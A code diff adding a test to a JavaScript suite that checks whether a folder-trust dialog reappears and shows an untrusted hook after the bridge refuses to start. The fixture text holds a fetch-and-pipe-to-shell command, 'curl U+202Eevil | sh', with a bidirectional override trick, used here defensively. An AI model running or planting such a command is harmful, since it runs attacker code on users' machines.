@@ -143,6 +143,16 @@ describe("a folder that provides something", () => {
     expect(world.socket.ofType("trust_folder")).toHaveLength(1);
   });
 
+  it("is looked at again when the bridge refuses to start without trust", async () => {
+    await greet();
+    await press("Start");
+    await answer("get_trust", report("nothing", []));
+    await answer("start", { type: "error", code: "trust_required", message: "changed" });
+    await answer("get_trust", report("untrusted", [HOOK]));
+    expect(root.querySelector("dialog")?.textContent).toContain("curl U+202Eevil | sh");
+    expect(app.toasts.shown.value).toEqual([]);
+  });
+
   it("shows the difference when it changed, in words", async () => {
     await greet();
     await press("Start");
